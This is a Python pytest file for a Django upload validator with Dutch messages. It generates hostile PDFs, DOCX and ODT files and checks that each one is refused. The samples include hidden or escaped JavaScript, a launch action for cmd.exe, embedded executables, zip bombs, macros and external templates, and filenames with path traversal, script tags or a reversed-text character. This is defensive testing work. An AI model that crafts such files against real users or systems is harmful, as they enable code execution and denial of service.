"""Uploads are judged by their content: what is refused, and why (in Dutch).

Every hostile file is made here, by the test: no committed binaries.
"""

import io
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from ontheffing import uploads
from tests.factories import PDF, maak_pdf


def bestand(inhoud: bytes, naam="document.pdf", content_type="application/pdf"):
    return SimpleUploadedFile(naam, inhoud, content_type=content_type)


def zip_met(bestanden: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archief:
        for naam, inhoud in bestanden.items():
            archief.writestr(naam, inhoud)
    return buffer.getvalue()


def zip_bom(bestanden: dict[str, bytes], groot: str, megabytes: int) -> bytes:
    """An archive with one member of ``megabytes`` MB of zeros, written in
    blocks: a few hundred kB on disk."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as a:
        for naam, inhoud in bestanden.items():
            if naam != groot:
                a.writestr(naam, inhoud)
        with a.open(groot, "w") as lid:
            lid.write(bestanden.get(groot, b""))
            for _ in range(megabytes):
                lid.write(b" " * 1_048_576)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b"</Types>"
)
DOCX_DELEN = {
    "[Content_Types].xml": CONTENT_TYPES,
    "word/document.xml": b"<w:document/>",
}
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
ODT_DELEN = {"mimetype": ODT_TYPE, "content.xml": b"<office:document-content/>"}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(soort: str, doel: str) -> bytes:
    return (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="'
        + (REL + soort).encode()
        + b'" Target="'
        + doel.encode()
        + b'" TargetMode="External"/></Relationships>'
    )


def docx(**extra: bytes) -> bytes:
    return zip_met({**DOCX_DELEN, **extra})


def odt(**extra: bytes) -> bytes:
    return zip_met({**ODT_DELEN, **extra})


def pdf_met_objectstroom(verborgen: bytes) -> bytes:
    """Catalog 1, pages 2, page 3 with annotation 5, which lives compressed
    inside object stream 4; found only through the cross-reference stream 6."""
    uit = bytearray(b"%PDF-1.5\n")
    posities = {}

    def voeg_toe(nummer, inhoud):
        posities[nummer] = len(uit)
        uit.extend(b"%d 0 obj\n%s\nendobj\n" % (nummer, inhoud))

    voeg_toe(1, b"<</Type/Catalog/Pages 2 0 R>>")
    voeg_toe(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    voeg_toe(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[5 0 R]>>")
    kop = b"5 0 "
    stroom = zlib.compress(kop + verborgen)
    voeg_toe(
        4,
        b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n"
        % (len(kop), len(stroom))
        + stroom
        + b"\nendstream",
    )
    posities[6] = len(uit)
    rij = {
        1: (1, posities[1], 0),
        2: (1, posities[2], 0),
        3: (1, posities[3], 0),
        4: (1, posities[4], 0),
        5: (2, 4, 0),
        6: (1, posities[6], 0),
    }
    tabel = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        bytes([soort]) + veld.to_bytes(4, "big") + index.to_bytes(2, "big")
        for soort, veld, index in (rij[n] for n in range(1, 7))
    )
    uit.extend(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n"
        % len(tabel)
        + tabel
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % posities[6]
    )
    return bytes(uit)


PAGINAS = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdf_met_annotatie(annotatie: bytes, catalogus: bytes = b"") -> bytes:
    return maak_pdf(
        b"<</Type/Catalog/Pages 2 0 R" + catalogus + b">>",
        PAGINAS,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
        annotatie,
    )


def pdf_met_catalogus(extra: bytes) -> bytes:
    return maak_pdf(
        b"<</Type/Catalog/Pages 2 0 R" + extra + b">>",
        b"<</Type/Pages/Kids[]/Count 0>>",
    )


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
DOC = (
    bytes.fromhex("D0CF11E0A1B11AE1")
    + b"\x00" * 64
    + "WordDocument".encode("utf-16-le")
)
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example)>>>>"


@pytest.mark.parametrize(
    ("inhoud", "naam", "verwacht_type", "verwachte_naam"),
    [
        (PDF, "offerte.pdf", "application/pdf", "offerte.pdf"),
        (PDF, "offerte.exe", "application/pdf", "offerte.pdf"),  # the content decides
        # A link the reader clicks, and opening at a page, are ordinary PDF.
        (pdf_met_annotatie(LINK), "link.pdf", "application/pdf", "link.pdf"),
        (
            pdf_met_annotatie(LINK, b"/OpenAction[3 0 R/Fit]"),
            "open.pdf",
            "application/pdf",
            "open.pdf",
        ),
        (pdf_met_objectstroom(LINK), "os.pdf", "application/pdf", "os.pdf"),
        (docx(), "contract.docx", uploads.DOCX, "contract.docx"),
        (
            docx(**{"word/_rels/document.xml.rels": rels("hyperlink", "https://a.nl")}),
            "link.docx",
            uploads.DOCX,
            "link.docx",
        ),
        (odt(), "brief.odt", "application/vnd.oasis.opendocument.text", "brief.odt"),
        (
            odt(**{"Object 1/content.xml": b"<chart/>", "Pictures/a.png": PNG}),
            "grafiek.odt",
            "application/vnd.oasis.opendocument.text",
            "grafiek.odt",
        ),
        (PNG, "foto.png", "image/png", "foto.png"),
        (JPEG, "foto.jpeg", "image/jpeg", "foto.jpg"),
    ],
)
def test_accepted_kinds(inhoud, naam, verwacht_type, verwachte_naam):
    resultaat = uploads.controleer(bestand(inhoud, naam, "application/octet-stream"))
    assert resultaat.content_type == verwacht_type
    assert resultaat.naam == verwachte_naam
    assert len(resultaat.sha256) == 64


JS_ESCAPED = pdf_met_catalogus(b"/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>")
VIJANDIG = {
    # PDF: names #-escaped, scripts hidden in compressed object streams,
    # actions that run by themselves.
    "pdf-javascript-escaped": (JS_ESCAPED, "JavaScript"),
    "pdf-javascript-names-escaped": (
        pdf_met_catalogus(b"/Names<</Java#53cript<</Names[(a) 3 0 R]>>>>"),
        "JavaScript",
    ),
    "pdf-launch-escaped": (
        pdf_met_annotatie(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/L#61unch/F(cmd.exe)>>>>"
        ),
        "programma",
    ),
    "pdf-embeddedfile-escaped": (
        pdf_met_catalogus(b"/Names<</Embedded#46iles<</Names[(a.exe) 3 0 R]>>>>"),
        "ingesloten bestanden",
    ),
    "pdf-embedded-stream-escaped": (
        maak_pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
            b"<</Type/Embedded#46ile/Length 2>>stream\nMZ\nendstream",
        ),
        "ingesloten bestanden",
    ),
    "pdf-javascript-in-object-stream": (
        pdf_met_objectstroom(
            b"<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]"
            b"/A<</S/JavaScript/JS(app.alert(1))>>>>"
        ),
        "JavaScript",
    ),
    "pdf-openaction-uri": (
        pdf_met_catalogus(b"/OpenAction<</S/URI/URI(https://kwaad.example/)>>"),
        "vanzelf",
    ),
    "pdf-additional-action-on-page": (
        pdf_met_annotatie(LINK, b"/AA<</WC<</S/URI/URI(https://kwaad.example)>>>>"),
        "vanzelf",
    ),
    "pdf-submitform": (
        pdf_met_annotatie(
            b"<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]"
            b"/A<</S/SubmitForm/F(https://kwaad.example)>>>>"
        ),
        "verstuurt",
    ),
    "pdf-gotor": (
        pdf_met_annotatie(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\x\\\\s.pdf)"
            b"/D[0/Fit]>>>>"
        ),
        "ander bestand",
    ),
    "pdf-xfa": (
        pdf_met_catalogus(b"/AcroForm<</Fields[]/XFA[(template)3 0 R]>>"),
        "XFA",
    ),
    "pdf-unparseable": (b"%PDF-1.7\n\x00\x01 niets dan rommel", "niet worden gelezen"),
    # Office: zip bombs.
    "docx-zip-bomb": (
        zip_bom(DOCX_DELEN, "word/document.xml", 200),
        "uitgepakt veel te groot",
    ),
    "odt-mimetype-bomb": (
        zip_bom(ODT_DELEN, "mimetype", 200),
        "uitgepakt veel te groot",
    ),
    "docx-too-many-parts": (
        docx(**{f"word/media/{n}.xml": b"" for n in range(uploads.MAX_LEDEN)}),
        "te veel delen",
    ),
    # Office: macros, embedded programs, external templates, HTML.
    "docx-macro": (docx(**{"word/vbaProject.bin": b"macro"}), "macro"),
    "docx-ole-executable": (
        docx(**{"word/embeddings/oleObject1.bin": DOC + b"MZ\x90\x00"}),
        "ingesloten object",
    ),
    "docx-external-template": (
        docx(
            **{
                "word/_rels/settings.xml.rels": rels(
                    "attachedTemplate", "https://kwaad.example/sjabloon.dotm"
                )
            }
        ),
        "extern sjabloon",
    ),
    "docx-html-chunk": (docx(**{"word/afchunk.mht": b"MIME-Version: 1.0"}), "HTML"),
    "odt-basic-macro": (
        odt(**{"Basic/Standard/Module1.xml": b"<script:module/>"}),
        "macro",
    ),
    "odt-event-script": (
        odt(
            **{
                "content.xml": b"<office:document-content><script:event-listener "
                b'xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'
                b"</office:document-content>"
            }
        ),
        "macro",
    ),
    "odt-embedded-executable": (
        odt(**{"Object 1": b"MZ\x90\x00" + b"\x00" * 60}),
        "ingesloten object",
    ),
    "odt-embedded-exe-by-name": (odt(**{"setup.exe": b"x"}), "ingesloten object"),
    "odt-html": (odt(**{"index.html": b"<p>hallo</p>"}), "HTML"),
    "odt-html-in-manifest": (
        odt(
            **{
                "META-INF/manifest.xml": b'<manifest:file-entry manifest:media-type="'
                b'text/html" manifest:full-path="x"/>',
                "x": b"<script>alert(1)</script>",
            }
        ),
        "HTML",
    ),
    "doc-binary-word": (DOC, "Oude Office-bestanden"),
    # Not documents at all.
    "html-as-pdf": (b"<html><script>alert(1)</script></html>", "niet geaccepteerd"),
    "svg-as-png": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "niet geaccepteerd",
    ),
    "windows-executable": (b"MZ\x90\x00" + b"\x00" * 64, "niet geaccepteerd"),
    "linux-executable": (b"\x7fELF" + b"\x00" * 64, "niet geaccepteerd"),
    "zip": (zip_met({"a.txt": b"x"}), "Archiefbestanden"),
    "broken-zip": (b"PK\x03\x04xx", "beschadigd"),
    "empty": (b"", "leeg"),
}


@pytest.mark.parametrize(("inhoud", "reden"), VIJANDIG.values(), ids=VIJANDIG.keys())
def test_hostile_files_are_refused_with_a_reason(inhoud, reden):
    with pytest.raises(uploads.OngeldigBestand, match=reden):
        uploads.controleer(bestand(inhoud, "stuk.pdf"))


@pytest.mark.parametrize("soort", ["docx-zip-bomb", "odt-mimetype-bomb"])
def test_a_zip_bomb_is_refused_without_unpacking_it(soort):
    """200 MB unpacked from a few hundred kB: refused while memory stays small."""
    inhoud = VIJANDIG[soort][0]
    assert len(inhoud) < 1_048_576
    tracemalloc.start()
    try:
        with pytest.raises(uploads.OngeldigBestand):
            uploads.controleer(bestand(inhoud, "bom.docx"))
        _, piek = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert piek < 3 * len(inhoud) + 2 * 1_048_576


def test_a_pdf_with_too_many_objects_is_refused_before_inspection(monkeypatch):
    """Inspection costs time per object; past the limit the PDF is refused."""
    from ontheffing import pdfcontrole

    monkeypatch.setattr(pdfcontrole, "MAX_OBJECTEN", 20)
    veel = maak_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[]/Count 0>>",
        *[b"<</A 1>>"] * 19,
    )
    with pytest.raises(uploads.OngeldigBestand, match="te veel onderdelen"):
        uploads.controleer(bestand(veel))
    uploads.controleer(bestand(PDF))  # three objects: fine


def test_a_lying_size_in_the_archive_header_does_not_help():
    """A member that unpacks to more than its header says is cut off and refused."""
    eerlijk = zip_met({**ODT_DELEN, "content.xml": b"<x>" + b" " * 1000 + b"</x>"})
    # Patch both the local and the central header: 'uncompressed size' 1003 -> 10.
    leugen = eerlijk.replace((1007).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert leugen != eerlijk
    with pytest.raises(uploads.OngeldigBestand, match="beschadigd"):
        uploads.controleer(bestand(leugen, "brief.odt"))


def test_size_limits():
    groot = bestand(PDF + b"0" * (uploads.MAX_BESTAND + 1 - len(PDF)))
    with pytest.raises(uploads.OngeldigBestand, match="maximum is 10 MB"):
        uploads.controleer(groot)
    with pytest.raises(uploads.OngeldigBestand, match="50 MB"):
        uploads.controleer(bestand(PDF), reeds_opgeslagen=uploads.MAX_PER_VERZOEK - 10)


@pytest.mark.parametrize(
    ("naam", "verwacht"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\jan\\offerte definitief.PDF", "offerte definitief.pdf"),
        ("<script>alert(1)</script>.pdf", "script.pdf"),
        ("<b>rapport.pdf", "b_rapport.pdf"),
        ("\u202egnp.pdf", "gnp.pdf"),
        ("", "document.pdf"),
        ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
    ],
)
def test_file_names_are_sanitised(naam, verwacht):
    assert uploads.veilige_naam(naam, ".pdf") == verwacht
